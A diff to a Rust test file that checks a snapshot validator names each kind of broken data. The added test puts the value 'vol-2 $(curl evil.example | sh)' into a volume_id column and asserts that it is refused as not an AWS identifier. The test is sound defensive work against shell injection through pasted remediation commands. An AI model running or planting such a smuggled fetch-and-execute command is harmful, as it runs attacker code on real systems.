@@ -147,6 +147,21 @@ fn every_kind_of_broken_snapshot_is_named() {
     });
     assert!(nulls.contains("required column `volume_id` has 1 null value(s)"), "{nulls}");
 
+    // An id AWS never writes is refused wherever the file came from: remediation commands paste it.
+    let hostile = open_broken(|snap| {
+        let path = snap.join("volumes.parquet");
+        let mut frame = read_parquet(&path);
+        frame
+            .replace("volume_id", Column::new("volume_id".into(), ["vol-1", "vol-2 $(curl evil.example | sh)"]))
+            .unwrap();
+        write_parquet(&path, frame);
+    });
+    assert!(hostile.contains("volumes.parquet"), "{hostile}");
+    assert!(
+        hostile.contains(r#"column `volume_id` holds "vol-2 $(curl evil.example | sh)", not an AWS identifier"#),
+        "{hostile}"
+    );
+
     let missing_file = open_broken(|snap| std::fs::remove_file(snap.join("volumes.parquet")).unwrap());
     assert!(missing_file.contains("listed as present in the manifest, but the file is missing"), "{missing_file}");
 
